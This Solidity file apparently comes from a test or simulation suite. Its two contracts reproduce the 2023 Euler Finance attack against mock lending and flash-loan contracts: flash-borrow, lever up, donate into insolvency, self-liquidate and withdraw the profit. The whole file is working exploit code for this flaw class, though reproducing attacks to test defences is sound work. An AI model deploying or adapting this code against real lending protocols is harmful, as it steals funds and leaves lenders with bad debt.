// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {FlashLender} from "../venue/FlashLender.sol";
import {LegacyMarket} from "../venue/LegacyMarket.sol";
import {AttestedCaller} from "../guardian/AttestedEntry.sol";

/// @title EulerViolator
/// @notice The attacker's first account: deposits, levers up with `mint`, then donates enough of its deposit to
/// make itself deeply insolvent.
contract EulerViolator {
    address public immutable controller;

    constructor() {
        controller = msg.sender;
    }

    function run(LegacyMarket market, uint256 depositAmount, uint256 mintAmount, uint256 donateAmount) external {
        require(msg.sender == controller, "not controller");
        IERC20 usd = market.asset();
        usd.approve(address(market), depositAmount);
        market.deposit(depositAmount);
        market.mint(mintAmount);
        market.donateToReserves(donateAmount);
    }
}

/// @title EulerStyleAttacker
/// @notice Scenario 7 (Euler Finance, March 2023), one transaction: flash-borrow stablecoins, let the violator
/// deposit, lever up and donate itself into insolvency, then liquidate it from this contract at the maximum
/// discount, net the inherited deposit against the inherited debt, withdraw the surplus, repay the flash loan.
/// The violator is left with debt and no assets: bad debt for the market's lenders.
contract EulerStyleAttacker is IERC3156FlashBorrower, AttestedCaller {
    FlashLender public immutable lender;
    LegacyMarket public immutable market;
    IERC20 public immutable usd;
    EulerViolator public immutable violator;
    address public immutable owner;

    error NotOwner();
    error BadCaller();

    constructor(FlashLender lender_, LegacyMarket market_) {
        lender = lender_;
        market = market_;
        usd = market_.asset();
        violator = new EulerViolator();
        owner = msg.sender;
    }

    function attack(uint256 flashAmount, uint256 mintAmount, uint256 donateAmount) external returns (uint256 profit) {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoan(this, address(usd), flashAmount, abi.encode(mintAmount, donateAmount));
        profit = usd.balanceOf(address(this));
        usd.transfer(owner, profit);
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        override
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert BadCaller();
        (uint256 mintAmount, uint256 donateAmount) = abi.decode(data, (uint256, uint256));
        usd.transfer(address(violator), amount);
        violator.run(market, amount, mintAmount, donateAmount);

        market.liquidate(address(violator), market.dBalance(address(violator)));
        uint256 debt = market.dBalance(address(this));
        market.burn(debt);
        market.withdraw(market.eBalance(address(this)));

        usd.approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
